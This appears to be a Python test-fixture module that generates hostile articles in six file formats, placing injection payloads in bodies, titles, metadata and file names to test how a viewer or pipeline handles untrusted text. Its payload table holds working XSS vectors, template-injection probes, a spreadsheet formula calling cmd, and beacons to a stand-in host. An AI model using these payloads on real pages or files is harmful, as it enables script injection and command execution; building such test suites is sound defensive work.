"""Articles of a stranger who wants a page to act: payloads by what they try, and every place that takes text."""

import csv
import io
import json

MARKER = "window.hurt=1"
"""What each payload tries to run."""
BEACON = "https://evil.invalid/"
"""Where payloads try to send a reader, or to load from."""

PAYLOADS = {
    "script": f"<script>{MARKER}</script>",
    "upper": f"<ScRiPt/x>{MARKER}</sCrIpT >",
    "image": f"<img src=x onerror={MARKER}>",
    "quoted": f"\"><img src=x onerror='{MARKER}'>",
    "single": f"'><svg onload={MARKER}>",
    "attribute": f"\" onmouseover={MARKER} autofocus onfocus={MARKER} x=\"",
    "closing": f"</title></style></textarea></script><script>{MARKER}</script>",
    "comment": f"--><script>{MARKER}</script><!--",
    "cdata": f"<![CDATA[]]><script>{MARKER}</script>]]>",
    "svg": f"<svg><animate onbegin={MARKER} attributeName=x dur=1s></svg>",
    "svg-style": f"<svg><style><img src=x onerror={MARKER}></style></svg>",
    "math": f"<math><mtext><table><mglyph><style><img src=x onerror={MARKER}></style></mglyph></table></mtext></math>",
    "link": f"<a href=javascript:{MARKER}>x</a>",
    "entities": f"<a href=&#106;avascript&colon;{MARKER}>x</a>",
    "space": f"<a href='java\tscript:{MARKER}'>x</a>",
    "markdown": f"[x](javascript:{MARKER}) ![x](x\"onerror={MARKER})",
    "data": f"<iframe src='data:text/html,<script>{MARKER}</script>'></iframe>",
    "srcdoc": f"<iframe srcdoc='<script>parent.{MARKER}</script>'></iframe>",
    "object": f"<object data={BEACON}></object><embed src={BEACON}>",
    "beacon": f"<img src={BEACON}a.png><link rel=stylesheet href={BEACON}a.css><video poster={BEACON}v>",
    "base": f"<base href={BEACON}><form action={BEACON}><button>x",
    "refresh": f"<meta http-equiv=refresh content='0;url={BEACON}'>",
    "style": f"<style>@import '{BEACON}';*{{background:url({BEACON})}}</style>",
    "template": "{{ ''.__class__.__mro__ }}{% for x in y %}{{ 1777*7331 }}${1777*7331}<%= 1777*7331 %>#{1777*7331}",
    "json": f"\u2028\u2029</script><script>{MARKER}</script>\\u003cscript>\\\"",
    "bidi": f"\u202e\u2066<script>{MARKER}</script>\u2069\u0007\u001b[31m",
    "wide": f"＜script＞{MARKER}＜/script＞ %3Cscript%3E{MARKER}%3C/script%3E +ADw-script+AD4-{MARKER}+ADw-/script+AD4-",
    "twice": f"&lt;script&gt;{MARKER}&lt;/script&gt; &amp;lt;img src=x onerror={MARKER}&amp;gt;",
    "formula": "=HYPERLINK(\"https://evil.invalid/\");=cmd|' /C calc'!A0",
    "clobber": "<form id=filters><input name=dataset></form><a id=tools><a id=diffs>",
}  # fmt: skip

FIELDS = ("title", "author", "source", "place", "dateline", "id", "language", "date", "url", "other")
TOGETHER = 15
"""Articles that tell one story."""

FORMATS = ("txt", "md", "html", "jsonl", "csv", "parquet")


def story(number):
    """A story that stands in two articles, so that all of a page is shown."""
    return (
        f"Pier number {number} of the Kestermouth harbour was closed by Warden Ilse Brandt{number} on Tuesday after a crane"
        f" of {number + 200} tonnes slid into its basin. “Nobody was near crane K{number} when it fell,” she told reporters at"
        f" gate G{number}. Berth {number + 900} stays shut until divers from Tollhaven{number} have looked at the Quarrel{number}."
    )


def _address(payload):
    return f"https://example.org/{payload}"


def _text(place, payload, number):
    return f"{payload} {story(number)} {payload}" if place == "body" else story(number)


def _fields(place, payload):
    if place in ("body", "name"):
        return {}
    if place == "url":
        return {"url": f"javascript:{payload}"}
    return {place: _address(payload) if place == "other" else payload}


def _plain(place, payload, number):
    title = f"{' '.join(payload.split())}\n\n" if place == "title" else ""
    by = f"By {payload}\n\n" if place == "author" else ""
    return title + by + _text(place, payload, number)


def _markdown(place, payload, number):
    front = "".join(f"{key}: {json.dumps(value)}\n" for key, value in _fields(place, payload).items())
    return f"---\nkind: x\n{front}---\n\n{_text(place, payload, number)}\n"


def _page(place, payload, number):
    names = {"author": "author", "source": "og:site_name", "url": "og:url", "date": "date", "other": "description"}
    known = _fields(place, payload)
    # Tags of a page that a stranger wrote: the payload stands there as it is, and escaped.
    meta = "".join(
        f'<meta name="{names[key]}" property="{names[key]}" content="{value.replace(chr(34), "&quot;")}">'
        for key, value in known.items()
        if key in names
    )
    title = f"<title>{payload}</title>" if place == "title" else ""
    lang = f' lang="{payload.replace(chr(34), "&quot;")}"' if place == "language" else ""
    return f"<!doctype html><html{lang}><head>{title}{meta}</head><body><p>{_text(place, payload, number)}</p></body></html>"


def _line(place, payload, number):
    return json.dumps({"text": _text(place, payload, number), **_fields(place, payload)})


def _table(place, payload, number):
    known = {"text": _text(place, payload, number), **_fields(place, payload)}
    text = io.StringIO()
    csv.writer(text).writerows([list(known), list(known.values())])
    return text.getvalue()


def _columns(place, payload, number):
    import pyarrow
    from pyarrow import parquet

    known = {"text": _text(place, payload, number), **_fields(place, payload)}
    whole = io.BytesIO()
    parquet.write_table(pyarrow.table({key: [value] for key, value in known.items()}), whole)
    return whole.getvalue()


_WRITERS = {"txt": _plain, "md": _markdown, "html": _page, "jsonl": _line, "csv": _table, "parquet": _columns}


def combinations():
    """Format, place, name of the payload: each format with each place that it has, and with each payload."""
    for ending in FORMATS:
        places = {
            "txt": ("name", "body", "title", "author"),
            "html": ("name", "body", "title", "author", "source", "language", "date", "url", "other"),
        }.get(ending, ("name", "body", *FIELDS))
        for place in places:
            for name in PAYLOADS:
                yield ending, place, name


def as_name(payload, longest=100):
    """A payload as a file's name can hold it."""
    return payload.replace("/", "\u2215").replace("\0", "").encode()[:longest].decode(errors="ignore")


def write_hostile(folder, combos):
    """Write an article for each combination; some tell the same story, so that they stand on one page.

    Returns a dictionary from the path of each article to its combination.
    """
    written = {}
    for number, (ending, place, name) in enumerate(combos):
        payload = PAYLOADS[name]
        stem = f"{number:04}-{ending}-{place}-{name}"
        if place == "name":
            stem += as_name(payload, 200 - len(stem))
        file = folder / f"{stem}.{ending}"
        payload = f"{payload} {number}" if place == "id" else payload
        text = _WRITERS[ending](place, payload, number // TOGETHER)
        file.write_bytes(text if isinstance(text, bytes) else text.encode())
        written[file.name] = (ending, place, name)
    return written
